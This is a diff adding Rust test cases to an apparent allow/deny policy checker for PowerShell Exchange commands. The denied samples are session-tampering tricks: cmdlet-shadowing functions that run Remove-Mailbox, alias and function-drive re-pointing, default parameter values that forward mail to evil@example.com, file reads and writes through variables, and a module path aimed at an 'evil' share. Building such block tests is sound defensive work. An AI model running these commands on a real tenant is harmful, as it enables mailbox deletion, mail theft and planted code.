@@ -562,6 +562,87 @@ const CASES: &[(&str, Want, &str)] = &[
     ),
     ("", Allow, "empty line"),
     ("# just a comment", Allow, "comment line"),
+    // --- definitions and assignments that change the session ------------------------------
+    (
+        "function Get-Mailbox { param($Filter) Get-Recipient | Sort-Object -Property $Filter }; Get-Mailbox -Filter { Remove-Mailbox rob }",
+        Deny,
+        "a function shadowing a cmdlet turns its OPATH data block into code",
+    ),
+    (
+        "function global:Get-Mailbox { param($Filter) Sort-Object -Property $Filter }",
+        Deny,
+        "a shadowing function outlives the line",
+    ),
+    (
+        "filter fl { $_ }",
+        Deny,
+        "a filter shadowing an alias",
+    ),
+    (
+        "function prompt { 'x' }",
+        Deny,
+        "a host hook runs after every line",
+    ),
+    (
+        "${function:Get-Mailbox} = 'Remove-Mailbox rob'; Get-Mailbox",
+        Deny,
+        "function drive: a function made from text",
+    ),
+    (
+        "$alias:fl = 'Remove-Mailbox'; 'rob' | fl",
+        Deny,
+        "alias drive: re-pointing an allowed alias",
+    ),
+    (
+        "${alias:fl} = 'Remove-Mailbox'; 'rob' | fl",
+        Deny,
+        "alias drive, braced",
+    ),
+    (
+        "$PSDefaultParameterValues['Set-Mailbox:ForwardingSmtpAddress'] = 'evil@example.com'",
+        Deny,
+        "default parameter values add a forwarding address to later Set-Mailbox calls",
+    ),
+    (
+        "$PSDefaultParameterValues = @{ 'Set-Mailbox:ForwardingSmtpAddress' = 'evil@example.com' }",
+        Deny,
+        "default parameter values, whole table",
+    ),
+    (
+        "$h = Get-Variable PSDefaultParameterValues -ValueOnly; $h['Set-Mailbox:ForwardingSmtpAddress'] = 'e@x.com'",
+        Deny,
+        "default parameter values through another variable",
+    ),
+    (
+        "foreach ($PSDefaultParameterValues in , @{ 'Set-Mailbox:ForwardingSmtpAddress' = 'e@x.com' }) { }",
+        Deny,
+        "default parameter values as a loop variable",
+    ),
+    (
+        "${C:\\Users\\admin\\Documents\\profile.ps1} = 'Remove-Mailbox rob'",
+        Deny,
+        "file written through a variable",
+    ),
+    (
+        "$x = ${C:\\secrets.txt}",
+        Deny,
+        "file read through a variable",
+    ),
+    (
+        "$env:PSModulePath = '\\\\evil\\share'",
+        Deny,
+        "module path: later auto-loading runs a planted module",
+    ),
+    (
+        "function Get-MyReport { Get-Mailbox | Select-Object Name }; Get-MyReport",
+        Allow,
+        "a new read-only helper function",
+    ),
+    (
+        "$ErrorActionPreference = 'Stop'; Write-Host $env:TEMP",
+        Allow,
+        "preference variables and environment reads",
+    ),
 ];
 
 fn shipped() -> PolicySet {
